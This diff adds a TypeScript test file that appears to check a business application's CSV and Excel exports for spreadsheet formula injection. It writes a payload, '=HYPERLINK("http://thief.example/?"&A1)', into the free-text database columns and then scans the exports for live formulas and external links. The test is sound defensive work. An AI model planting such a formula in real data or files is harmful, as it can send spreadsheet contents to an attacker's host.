@@ -1,0 +1,91 @@
+/**
+ * No exported table starts a formula in a spreadsheet: every export of the contract, from a
+ * company in which every text that a user may key begins as a formula does.
+ */
+import { inflateRawSync } from "node:zlib";
+import type { AnyCall } from "@larder/domain/kernel/calls";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { nameOf, openTried, type Tried } from "./tried.ts";
+
+let tried: Tried;
+beforeAll(async () => {
+  // The names of goods and customers stand in documents and their numbers as they were when these were made.
+  tried = await openTried();
+  await keyFormulas(tried.ours.tenantId);
+}, 60_000);
+afterAll(() => tried.world.close());
+
+const FORMULA = '=HYPERLINK("http://thief.example/?"&A1)';
+
+/** Every text column in which a person's words stand and that no rule limits to a few values. */
+async function keyFormulas(tenantId: string): Promise<void> {
+  const columns = await tried.world.rows<{ table: string; column: string }>(
+    tenantId,
+    `select c.relname as "table", a.attname as "column" from pg_class c join pg_attribute a on a.attrelid = c.oid and a.attnum > 0 and not a.attisdropped
+      where c.relkind = 'r' and c.relnamespace = 'public'::regnamespace and a.atttypid = 'text'::regtype
+        and a.attname ~ '(name|remark|address|note|contact|description|intro|reference|reason|title|oper_param|error_msg)'
+        and exists (select 1 from pg_attribute t where t.attrelid = c.oid and t.attname = 'tenant_id')
+        and c.relname not in ('tenant', 'idempotency', 'search_word')`,
+  );
+  for (const { table, column } of columns) {
+    // Where names are unique, or a rule says what may stand there, the column keeps what it has.
+    await tried.world
+      .rows(tenantId, `update "${table}" set "${column}" = $2 where tenant_id = $1`, [tenantId, FORMULA])
+      .catch(() => {});
+  }
+}
+
+const isExport = (call: AnyCall) => call.answer === "file" && /export|template/i.test(call.path);
+
+/** The files of a workbook by name: what the table of contents at its end says, inflated. */
+function unzipped(bytes: Buffer): Map<string, string> {
+  const files = new Map<string, string>();
+  for (
+    let at = bytes.indexOf("PK\u0001\u0002", 0, "latin1");
+    at >= 0;
+    at = bytes.indexOf("PK\u0001\u0002", at + 4, "latin1")
+  ) {
+    const [method, size, nameLength, start] = [
+      bytes.readUInt16LE(at + 10),
+      bytes.readUInt32LE(at + 20),
+      bytes.readUInt16LE(at + 28),
+      bytes.readUInt32LE(at + 42),
+    ];
+    const name = bytes.toString("utf8", at + 46, at + 46 + nameLength);
+    const data = start + 30 + bytes.readUInt16LE(start + 26) + bytes.readUInt16LE(start + 28);
+    const packed = bytes.subarray(data, data + size);
+    files.set(name, (method === 0 ? packed : inflateRawSync(packed)).toString("utf8"));
+  }
+  return files;
+}
+
+test("in no cell of any export", { timeout: 60_000 }, async () => {
+  const wrong: string[] = [];
+  let quoted = 0;
+  const exports = tried.calls.filter(isExport);
+  expect(exports.length).toBeGreaterThan(8);
+  for (const call of exports) {
+    const client = tried.isOperators(call) ? tried.operator : tried.admin;
+    // Everything, or, where a call must be told of whom, what it asks for.
+    const needs = !call.input.safeParse({}).success;
+    const response = await client.fetch(call, needs ? tried.asked(call) : {});
+    const bytes = Buffer.from(await response.arrayBuffer());
+    const type = response.headers.get("content-type") ?? "";
+    const name = decodeURIComponent(response.headers.get("download-filename") ?? "");
+    if (type.startsWith("application/json")) wrong.push(`${nameOf(call)}: ${bytes.toString().slice(0, 200)}`);
+    else if (name.endsWith(".csv")) {
+      const text = bytes.toString();
+      if (/(?:^|,)"?[=+@]/m.test(text)) wrong.push(`${nameOf(call)}: ${text.slice(0, 200)}`);
+    } else {
+      for (const [part, text] of unzipped(bytes)) {
+        if (!part.startsWith("xl/")) continue;
+        if (part.startsWith("xl/worksheets/") && /<f[ >]/.test(text))
+          wrong.push(`${nameOf(call)}: a formula in ${part}`);
+        if (/externalLink|ddeLink|<definedName/.test(text)) wrong.push(`${nameOf(call)}: a link to outside in ${part}`);
+        if (text.includes("HYPERLINK")) quoted++;
+      }
+    }
+  }
+  expect(wrong).toEqual([]);
+  expect(quoted, "the formulas were there, as text").toBeGreaterThan(5);
+});
